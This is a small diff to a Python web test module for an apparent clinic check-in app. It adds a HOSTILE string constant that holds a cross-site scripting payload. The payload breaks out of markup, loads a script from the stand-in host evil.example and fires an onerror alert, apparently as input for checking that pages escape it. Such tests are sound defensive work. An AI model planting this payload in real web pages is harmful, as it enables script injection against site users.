@@ -11,6 +11,7 @@ from tests.web.conftest import SMALL, Clinic
 from tests.web.pages import Element, Form, Page, check_page
 
 TEXT = (SMALL / "check_in.yaml").read_text()
+HOSTILE = "\"'></textarea></iframe><script src=//evil.example></script><img src=x onerror=alert(1)>"
 
 
 def begin(
